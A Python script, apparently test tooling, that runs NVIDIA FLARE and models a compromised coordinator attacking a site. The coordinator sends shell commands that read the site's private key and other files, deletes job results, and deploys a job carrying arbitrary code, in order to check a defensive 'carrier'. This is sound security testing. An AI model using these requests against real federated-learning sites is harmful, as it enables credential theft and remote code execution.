"""FLARE as it comes, as sites ran it before there was a carrier; and the requests of its administration.

    python plain_flare.py server KIT SITE OUT     a changed coordinator: FLARE's own server, which asks SITE for files
    python plain_flare.py client KIT SITE         a site: FLARE's own client

`requests` makes what such a coordinator sends, byte by byte, so that tests can send the same to a carrier.
"""

from __future__ import annotations

import io
import json
import os
import sys
import threading
import time
import uuid
import zipfile
from argparse import Namespace
from pathlib import Path
from typing import Any

OPTIONS = ["secure_train=true", "org=cloister", "config_folder=config"]


def requests(origin: str, to: str, wanted: dict[str, str]) -> dict[str, tuple[dict[str, Any], bytes]]:
    """FLARE's messages: read the key and the cells, list /, delete results, deploy a job with code of its own."""
    from nvflare.fuel.f3.cellnet.defs import CellChannel, Encoding, MessageHeaderKey, MessageType
    from nvflare.fuel.utils import fobs
    from nvflare.private.admin_defs import Message
    from nvflare.private.defs import RequestHeader, SysCommandTopic, TrainingTopic
    from nvflare.private.fed.utils.fed_utils import nvflare_fobs_initialize

    nvflare_fobs_initialize()

    def delete() -> Message:
        made = Message(TrainingTopic.DELETE_RUN, "")
        made.set_header(RequestHeader.JOB_ID, wanted["results"])
        return made

    def deploy() -> Message:
        packed = io.BytesIO()
        with zipfile.ZipFile(packed, "w") as z:
            z.writestr("custom/code.py", f"open({wanted['mark']!r}, 'w')\n")
            z.writestr("config/config_fed_client.json", json.dumps({"format_version": 2, "executors": []}))
        made = Message(TrainingTopic.DEPLOY, packed.getvalue())
        made.set_headers({RequestHeader.JOB_ID: str(uuid.uuid4()), RequestHeader.APP_NAME: "app"})
        made.set_header(RequestHeader.JOB_META, {"byoc": True, "submitter_role": "super"})
        return made

    asked = {
        "key": Message(SysCommandTopic.SHELL, f"cat {wanted['key']}"),
        "cells": Message(SysCommandTopic.SHELL, f"cat {wanted['cells']}"),
        "root": Message(SysCommandTopic.SHELL, "ls /"),
        "results": delete(),
        "job": deploy(),
    }
    made = {}
    for name, request in asked.items():
        headers = {
            MessageHeaderKey.CHANNEL: CellChannel.CLIENT_MAIN,
            MessageHeaderKey.TOPIC: request.topic,
            MessageHeaderKey.FROM_CELL: origin,
            MessageHeaderKey.TO_CELL: to,
            MessageHeaderKey.ORIGIN: origin,
            MessageHeaderKey.DESTINATION: to,
            MessageHeaderKey.MSG_TYPE: MessageType.REQ,
            MessageHeaderKey.REQ_ID: f"steal-{name}",
            MessageHeaderKey.REPLY_EXPECTED: True,
            MessageHeaderKey.PAYLOAD_ENCODING: Encoding.FOBS,
            MessageHeaderKey.ROUTE: [[origin, time.time()]],
        }
        made[name] = headers, bytes(fobs.dumps(request))
    return made


def settings(kit: Path, *, server: bool) -> None:
    """The settings that sites had: no shell, no code from outside, two classes that a job may name."""
    rights = ("clone_job", "download_job", "operate", "shell_commands", "byoc")
    lead = {"submit_job": "any", "manage_job": "n:submitter", "view": "any", **dict.fromkeys(rights, "none")}
    allowed = {"format_version": 2, "class_list_enforcement_mode": "enforce", "class_allow_list": []}
    common = "nvflare.app_common"
    store = {"path": f"{common}.storages.filesystem_storage.FilesystemStorage"}
    if server:
        persistor = f"{common}.state_persistors.storage_state_persistor.StorageStatePersistor"
        folder = {**store, "args": {"root_dir": str(kit / "snapshots"), "uri_root": "/"}}
        resources = {
            **allowed,
            "servers": [{"admin_storage": "transfer", "max_num_clients": 100, "heart_beat_timeout": 30}],
            "snapshot_persistor": {"path": persistor, "args": {"uri_root": "/", "storage": folder}},
            "components": [
                {"id": "job_scheduler", "path": f"{common}.job_schedulers.job_scheduler.DefaultJobScheduler"},
                {
                    "id": "job_manager",
                    "path": "nvflare.apis.impl.job_def_manager.SimpleJobDefManager",
                    "args": {"uri_root": str(kit / "jobs"), "job_store_id": "job_store"},
                },
                {"id": "job_store", **store},
            ],
        }
    else:
        gpus = f"{common}.resource_managers.gpu_resource_manager.GPUResourceManager"
        consumer = f"{common}.resource_consumers.gpu_resource_consumer.GPUResourceConsumer"
        resources = {
            **allowed,
            "allow_log_streaming": False,
            "client": {"retry_timeout": 30},
            "components": [
                {"id": "resource_manager", "path": gpus, "args": {"num_of_gpus": 0, "mem_per_gpu_in_GiB": 0}},
                {"id": "resource_consumer", "path": consumer},
            ],
        }
    local = kit / "local"
    (local / "resources.json").write_text(json.dumps(resources))
    (local / "authorization.json").write_text(json.dumps({"format_version": "1.0", "permissions": {"lead": lead}}))


def serve(kit: str, site: str, out: str, wanted: dict[str, str]) -> None:
    """FLARE's server; once the site is there, ask it."""
    from nvflare.fuel.f3.cellnet.core_cell import CoreCell, _Waiter
    from nvflare.fuel.f3.message import Message
    from nvflare.private.fed.app.server.server_train import main

    def steal() -> None:
        while not (cell := CoreCell.ALL_CELLS.get("server")) or site not in cell.agents:
            time.sleep(0.2)
        got: dict[str, str] = {}
        end = time.monotonic() + 240
        while "PRIVATE KEY" not in got.get("key", "") and time.monotonic() < end:  # until its administration is up
            for name, (headers, payload) in requests("server", site, wanted).items():
                waiter = cell.waiters[f"steal-{name}"] = _Waiter([site])
                cell.communicator.send(cell.agents[site].endpoint, CoreCell.APP_ID, Message(headers, payload))
                if waiter.wait(5.0):
                    payload = waiter.received_replies[site].payload
                    got[name] = str(getattr(payload, "body", payload))
            time.sleep(0.5)
        part = Path(out + ".part")
        part.write_text(json.dumps(got))
        part.rename(out)

    threading.Thread(target=steal, daemon=True).start()
    main(Namespace(workspace=kit, set=OPTIONS, local_rank=0, fed_server="fed_server.json"))


def take_part(kit: str, site: str) -> None:
    from nvflare.private.fed.app.client.client_train import main

    options = [f"uid={site}", *OPTIONS]
    main(Namespace(workspace=kit, set=options, local_rank=0, fed_client="fed_client.json"))


if __name__ == "__main__":
    os.environ["NVFLARE_SECURE_LOGGING"] = "true"
    if sys.argv[1] == "server":
        serve(*sys.argv[2:5], json.loads(sys.argv[5]))
    else:
        take_part(*sys.argv[2:4])
